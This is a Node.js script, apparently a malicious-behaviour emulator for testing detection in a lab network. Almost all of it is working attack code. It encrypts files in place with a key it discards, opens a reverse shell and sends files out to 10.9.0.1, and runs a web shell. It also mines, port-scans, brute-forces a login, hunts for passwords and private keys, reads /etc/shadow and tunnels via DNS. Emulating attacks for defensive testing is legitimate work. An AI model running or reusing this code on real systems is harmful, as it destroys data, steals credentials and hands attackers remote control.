// bad.js WHAT ...: stand-ins for node.
const fs = require('node:fs'),
  net = require('node:net'),
  path = require('node:path'),
  crypto = require('node:crypto'),
  { exec, spawn } = require('node:child_process'),
  [w, ...a] = process.argv.slice(2)
const sleep = (ms) => new Promise((k) => setTimeout(k, ms))
function* files(d) {
  for (const e of fs.readdirSync(d, { withFileTypes: true })) {
    const p = path.join(d, e.name)
    if (e.isDirectory()) yield* files(p)
    else if (e.isFile()) yield p
  }
}
const dial = (p) => net.connect(+p, '10.9.0.1'),
  key = crypto.randomBytes(32),
  iv = crypto.randomBytes(16)
const jobs = {
  async encrypt(d, style, pause) {
    for (;;) {
      for (const p of [...files(d)]) {
        try {
          if (style === 'sync') {
            const c = crypto.createCipheriv('aes-256-cbc', key, iv),
              b = fs.readFileSync(p)
            fs.writeFileSync(`${p}.enc`, Buffer.concat([c.update(b), c.final()]))
            fs.unlinkSync(p)
            fs.renameSync(`${p}.enc`, p)
          } else if (style === 'stream') {
            await new Promise((k, no) =>
              fs
                .createReadStream(p)
                .pipe(crypto.createCipheriv('aes-256-ctr', key, iv))
                .pipe(fs.createWriteStream(`${p}.enc`))
                .on('finish', k)
                .on('error', no),
            )
            await fs.promises.unlink(p)
            await fs.promises.rename(`${p}.enc`, p)
          } else {
            const b = await fs.promises.readFile(p)
            for (let i = 0; i < b.length; i++) b[i] ^= i * 31
            await fs.promises.writeFile(p, b)
            await fs.promises.rename(p, `${p}.z`)
            await fs.promises.rename(`${p}.z`, p)
          }
        } catch {}
        if (+pause) await sleep(Math.random() * pause)
      }
      await sleep(1)
    }
  },
  shell(port, style) {
    const c = dial(port)
    if (style === 'pipe') {
      const s = spawn('/bin/sh', ['-i'])
      c.pipe(s.stdin)
      s.stdout.pipe(c)
      s.stderr.pipe(c)
    } else c.on('data', (b) => exec(String(b), (_e, o, x) => c.write(o + x)))
  },
  mine(threads, port) {
    const { Worker } = require('node:worker_threads')
    const c = dial(port)
    c.write('{"method":"login"}\n')
    c.on('data', () => c.write('{"method":"submit"}\n'))
    for (let i = 0; i < +threads; i++)
      new Worker(
        `const c=require('crypto');let h=Buffer.from('${i}');for(;;)h=c.createHash('sha256').update(h).digest()`,
        { eval: true },
      )
  },
  async scan(width, ms) {
    const one = (h, p) =>
      new Promise((k) => {
        const s = net.connect({ host: h, port: p, timeout: 300 })
        const end = () => {
          s.destroy()
          k()
        }
        s.on('connect', end).on('error', end).on('timeout', end)
      })
    for (;;)
      for (let h = 1; h < 250; h++)
        for (let p = 1; p < 1500; p += +width) {
          await Promise.all(Array.from({ length: +width }, (_, i) => one(`10.9.0.${h}`, p + i)))
          if (+ms) await sleep(+ms)
        }
  },
  async guess(port, ms) {
    for (let i = 0; ; i++) {
      try {
        const r = await fetch(`http://127.0.0.1:${port}/login`, {
          method: 'POST',
          body: `user=admin&password=${i}`,
        })
        await r.text()
      } catch {}
      if (+ms) await sleep(Math.random() * ms)
    }
  },
  async crawl(...d) {
    for (;;) {
      for (const x of d)
        for (const p of files(x)) {
          try {
            if (/password|secret|PRIVATE KEY/i.test(fs.readFileSync(p, 'utf8'))) console.log(p)
          } catch {}
        }
      await sleep(100)
    }
  },
  async enum(ms) {
    for (;;)
      for (const c of [
        'id',
        'uname -a',
        'ps aux',
        'cat /etc/passwd',
        'ss -an',
        'mount',
        'ls -la /home /root',
        'find /usr -perm -4000',
        'env',
        'crontab -l',
        'cat /etc/shadow',
        'dpkg -l',
        'ip a',
        'getcap -r /usr/bin',
      ]) {
        await new Promise((k) => exec(c, { maxBuffer: 1e8 }, k))
        await sleep(Math.random() * ms)
      }
  },
  web(port) {
    require('node:http')
      .createServer((q, s) => {
        let b = ''
        q.on('data', (x) => (b += x)).on('end', () => {
          const c = new URLSearchParams(b || q.url.split('?')[1]).get('cmd')
          exec(c || 'id', { maxBuffer: 1e8 }, (_e, o) => s.end(o))
        })
      })
      .listen(+port)
  },
  async dns(ms, how) {
    const d = require('node:dns').promises
    d.setServers(['127.0.0.1'])
    for (;;) {
      const n = `${[1, 2, 3].map(() => crypto.randomBytes(24).toString('hex')).join('.')}.t.example`
      try {
        how === 'lookup' ? await d.lookup(n) : await d.resolveTxt(n)
      } catch {}
      await sleep(Math.random() * ms)
    }
  },
  async send(port, d) {
    const http = require('node:http')
    for (;;)
      for (const p of files(d)) {
        await new Promise((k) => {
          const q = http.request(
            { host: '10.9.0.1', port, method: 'PUT', path: `/${path.basename(p)}` },
            (r) => r.resume().on('end', k),
          )
          q.on('error', k)
          fs.createReadStream(p).pipe(q)
        })
        await sleep(Math.random() * 40)
      }
  },
  relay(port, to) {
    net
      .createServer((c) => {
        const d = dial(to)
        c.pipe(d).pipe(c)
        c.on('error', () => d.destroy())
        d.on('error', () => c.destroy())
      })
      .listen(+port)
  },
  async storm(n, ms) {
    for (;;) {
      for (let i = 0; i < +n; i++) spawn('/bin/true').on('error', () => {})
      await sleep(+ms)
    }
  },
}
jobs[w](...a)
